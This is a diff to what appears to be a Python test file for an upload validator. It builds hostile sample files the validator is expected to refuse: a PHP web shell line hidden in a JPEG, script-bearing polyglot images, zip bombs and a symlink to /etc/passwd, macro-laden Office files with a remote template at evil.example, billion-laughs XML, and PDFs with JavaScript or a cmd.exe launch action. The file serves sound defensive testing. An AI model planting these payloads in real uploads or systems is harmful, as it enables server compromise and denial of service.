@@ -40,6 +40,88 @@ def workbook(**more: bytes) -> bytes:
     return zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | more)
 
 
+def letter(**more: bytes) -> bytes:
+    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | more)
+
+
+def pdf(*objects: bytes) -> bytes:
+    """A PDF with these objects, as loosely written as readers take it."""
+    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
+    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF"
+
+
+def packed_objects(inside: bytes) -> bytes:
+    """The object that holds others, packed."""
+    packed = zlib.compress(b"7 0 " + inside)
+    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(packed), packed)
+
+
+def lying(size: int, said: int) -> bytes:
+    """A zip whose entry of `size` bytes is said to have `said`, with the sum of those."""
+    out = bytearray(zipped({"a.txt": b"0" * size}))
+    wrong = zlib.crc32(b"0" * said).to_bytes(4, "little"), said.to_bytes(4, "little")
+    for mark, crc, length in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
+        at = out.index(mark)
+        out[at + crc : at + crc + 4], out[at + length : at + length + 4] = wrong
+    return bytes(out)
+
+
+def declared(name: str, size: int, entries: dict[str, bytes]) -> bytes:
+    """A zip one entry of which is said to unpack to `size` bytes."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for one, data in ({name: b"<x/>"} | entries).items():
+            archive.writestr(one, data)
+        archive.getinfo(name).file_size = size
+    return out.getvalue()
+
+
+def overlapping(count: int) -> bytes:
+    """A zip whose directory names one and the same packed bytes many times."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("a.txt", b"0" * 900_000)
+        archive.filelist.extend([archive.filelist[0]] * (count - 1))
+    return out.getvalue()
+
+
+def linked() -> bytes:
+    """A zip with a link to a file of the server."""
+    out, link = io.BytesIO(), zipfile.ZipInfo("plan.pdf")
+    link.external_attr = 0o120777 << 16
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(link, "/etc/passwd")
+    return out.getvalue()
+
+
+def locked() -> bytes:
+    out = bytearray(zipped({"plan.txt": b"secret"}))
+    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        out[out.index(mark) + at] |= 1
+    return bytes(out)
+
+
+def nested(depth: int) -> bytes:
+    data = b"0" * 1_000_000
+    for _ in range(depth):
+        data = zipped({"inner.zip": data})
+    return data
+
+
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
+    + b"".join(b'<!ENTITY %c "%b">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 12))
+    + b"]>"
+)
+TEMPLATE = (
+    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>'
+)
+MACRO_TYPE = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+SCRIPT = b"<</Type/Action/S/JavaScript/JS(app.alert(1))>>"
+
+
 # name, content, why it is refused
 HOSTILE: list[tuple[str, bytes, str]] = [
     ("empty.pdf", b"", "empty"),
@@ -59,6 +141,53 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("bomb.zip", zipped({"a.txt": b"0" * 60_000_000}), "zip_unsafe"),
     ("programs.zip", zipped({"setup.exe": b"MZ"}), "zip_unsafe"),
     ("climb.zip", zipped({"../../etc/passwd.txt": b"x"}), "zip_unsafe"),
+    # two files in one
+    ("photo.jpg", picture("JPEG") + b"<html><body onload=alert(1)>", "disguised"),
+    ("photo.jpeg", picture("JPEG")[:20] + b"<?php system($_GET[0]); ?>" + picture("JPEG")[20:], "disguised"),
+    ("photo.gif", picture("GIF") + b"/*<script>alert(1)</script>*/", "disguised"),
+    ("both.gif", picture("GIF")[:-1] + PDF, "disguised"),
+    ("rar.png", picture() + b"Rar!\x1a\x07\x01\x00", "disguised"),
+    ("drawing.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "unknown_kind"),
+    # names that say otherwise
+    ("plan.exe.pdf", PDF, "disguised"),
+    ("plan.pdf.exe", PDF, "disguised"),
+    ("plan.js.png", picture(), "disguised"),
+    ("plan\u202efdp.exe", PDF, "disguised"),
+    # archives
+    ("lying.zip", lying(3_000_000, 10), "zip_unsafe"),
+    ("declared.zip", declared("a.txt", 10 * 2**30, {}), "zip_unsafe"),
+    (
+        "sheet.xlsx",
+        declared("xl/worksheets/sheet1.xml", 10 * 2**30, {"[Content_Types].xml": b"<Types/>"}),
+        "zip_unsafe",
+    ),
+    ("overlapping.zip", overlapping(100), "zip_unsafe"),
+    ("nested.zip", nested(3), "zip_unsafe"),
+    ("map.zip", zipped({"a.kmz": nested(2)}), "zip_unsafe"),
+    ("link.zip", linked(), "zip_unsafe"),
+    ("locked.zip", locked(), "locked"),
+    ("hidden.zip", zipped({"needs.xlsx": workbook(**{"xl/vbaProject.bin": b"x"})}), "zip_unsafe"),
+    # what runs in an office
+    ("macro.xlsm", workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
+    ("macro.docm", letter(**{"word/vbaProject.bin": b"x"}), "macros"),
+    ("macro.docx", letter(**{"word/vbaProject.bin": b"x"}), "macros"),
+    ("excel4.xlsx", workbook(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
+    ("typed.xlsx", zipped({"[Content_Types].xml": MACRO_TYPE, "xl/workbook.xml": b"<workbook/>"}), "macros"),
+    ("template.docx", letter(**{"word/_rels/settings.xml.rels": TEMPLATE}), "macros"),
+    ("object.docx", letter(**{"word/embeddings/oleObject1.bin": OLE}), "macros"),
+    ("old.docx", OLE, "old_office"),
+    ("old.xls", OLE, "old_office"),
+    ("laughs.xlsx", workbook(**{"xl/sharedStrings.xml": LAUGHS + b"<sst><si><t>&k;</t></si></sst>"}), "xml_unsafe"),
+    ("laughs.docx", letter(**{"word/styles.xml": LAUGHS + b"<x>&k;</x>"}), "xml_unsafe"),
+    ("laughs.kml", LAUGHS + b"<kml><name>&k;</name></kml>", "xml_unsafe"),
+    # what a PDF does
+    ("script.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", SCRIPT), "pdf_active"),
+    ("spelled.pdf", pdf(b"<</S/#4a#61vaScript/J#53(app.alert(1))>>"), "pdf_active"),
+    ("packed.pdf", pdf(b"<</Type/Catalog>>", packed_objects(SCRIPT)), "pdf_active"),
+    ("in_stream.pdf", pdf(b"<</Length 9>>stream\n3 0 obj" + SCRIPT + b"endobj\nendstream"), "pdf_active"),
+    ("launch.pdf", pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>"), "pdf_active"),
+    ("carrier.pdf", pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"), "pdf_active"),
+    ("locked.pdf", pdf(b"<</Type/Catalog>>") + b"trailer<</Encrypt 9 0 R>>", "locked"),
 ]
 SOUND: list[tuple[str, bytes, str]] = [
     ("plan.pdf", PDF, "pdf"),
@@ -66,5 +195,13 @@ SOUND: list[tuple[str, bytes, str]] = [
     ("site.jpeg", picture("JPEG"), "jpg"),
     ("needs.xlsx", workbook(), "xlsx"),
     ("notes.txt", "Cần 2 ha".encode(), "txt"),
-    ("pack.zip", zipped({"plan.pdf": PDF, "maps/a.geojson": b"{}"}), "zip"),
+    ("pack.zip", zipped({"plan.pdf": PDF, "maps/a.geojson": b"{}", "needs.xlsx": workbook()}), "zip"),
+    (
+        "letter.docx",
+        letter(**{"word/_rels/document.xml.rels": TEMPLATE.replace(b"attachedTemplate", b"hyperlink")}),
+        "docx",
+    ),
+    ("rev.2.final.pdf", pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", packed_objects(b"<</S/GoTo/D[0]>>")), "pdf"),
+    ("www.company.com.pdf", PDF, "pdf"),
+    ("place.kml", b'<?xml version="1.0"?><kml><Placemark/></kml>', "kml"),
 ]
